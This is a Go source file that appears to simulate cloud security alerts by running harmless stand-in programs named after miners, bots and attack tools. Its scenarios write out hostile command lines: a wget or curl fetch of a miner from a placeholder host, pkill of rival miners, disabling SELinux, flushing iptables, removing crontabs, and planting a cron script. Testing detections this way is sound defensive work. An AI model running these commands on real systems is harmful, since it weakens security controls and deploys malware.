package simulate

import "context"

var minerProxy = Scenario{
	Name:      "miner-proxy",
	Title:     "a proxy for miners is started",
	AlertType: "VM_CryptoCoinMinerArtifacts",
	Summary:   "Runs a program named xmrig-proxy. " + harmless,
	Run:       standIn("xmrig-proxy", "--bind", "127.0.0.1:3333"),
}

var minerRenamed = Scenario{
	Name:      "miner-renamed",
	Title:     "a program of another name is started like a miner",
	AlertType: "VM_CryptoCoinMinerExecution",
	Summary:   "Runs a program named sshd with a server, a user and a number of threads. " + harmless,
	Run:       standIn("sshd", "-o", "192.0.2.7:4444", "-u", "{token}", "-p", "x", "-t", "1"),
}

var minerDownload = Scenario{
	Name:      "miner-download",
	Title:     "a miner is downloaded",
	AlertType: "VM_CryptoCoinMinerDownload",
	Summary:   "Runs a program named wget with the address of a miner on a machine of the documentation. " + harmless,
	Run:       standIn("wget", "-q", "http://192.0.2.7/{token}/xmrig-6.21.0-linux-static-x64.tar.gz"),
}

var botStarted = Scenario{
	Name:      "bot-started",
	Title:     "a bot is started",
	AlertType: "VM_CommonBot",
	Summary:   "Runs a program named kaiten. " + harmless,
	Run:       standIn("kaiten", "{token}"),
}

var toolkitWritten = Scenario{
	Name:      "ddos-toolkit",
	Title:     "a denial-of-service toolkit installs itself",
	AlertType: "VM_KnownLinuxDDoSToolkit",
	Summary:   "Runs a program named cp that is told to copy a file to where a toolkit keeps its job. " + harmless,
	Run:       standIn("cp", "{dir}/{token}", "/etc/cron.hourly/gcc.sh"),
}

var botCommands = Scenario{
	Name:      "bot-commands",
	Title:     "a loader puts rivals out and brings its own",
	AlertType: "VM_CompCommonBots",
	Summary: "A script runs programs named pkill and curl that are told to end miners and to fetch a file. " +
		harmlessAll,
	Run: scriptOf([]string{"pkill", "curl"},
		"pkill -9 -f kdevtmpfsi", "pkill -9 -f kinsing", "pkill -9 minerd", "pkill -9 xmrig", "pkill -f watchbog",
		"curl -s -o {dir}/update http://192.0.2.7/{token}"),
}

var hostileScript = Scenario{
	Name:      "hostile-script",
	Title:     "a script takes one hostile step after the other",
	AlertType: "VM_CompSuspiciousScript",
	Summary: "A script runs programs named chattr, setenforce, iptables, pkill and crontab as the scripts that " +
		"bring miners do. " + harmlessAll,
	Run: scriptOf([]string{"chattr", "setenforce", "iptables", "pkill", "crontab"},
		"chattr -i /etc/ld.so.preload", "setenforce 0", "iptables -F", "pkill -9 -f {token}", "crontab -r"),
}

const harmlessAll = "The programs are copies of true(1) and do nothing."

// scriptOf returns the play of a scenario that runs a script, in which the
// given tools are stand-ins.
func scriptOf(tools []string, lines ...string) func(context.Context, *Stage) error {
	return func(ctx context.Context, s *Stage) error {
		for _, tool := range tools {
			if _, err := s.StandIn(tool); err != nil {
				return err
			}
		}
		text := "#!/bin/sh\nPATH=" + s.Dir + ":$PATH\n"
		for _, line := range s.fill(lines) {
			text += line + "\n"
		}
		path, err := s.Write("steps.sh", text)
		if err != nil {
			return err
		}
		return s.Exec(ctx, "sh", path)
	}
}
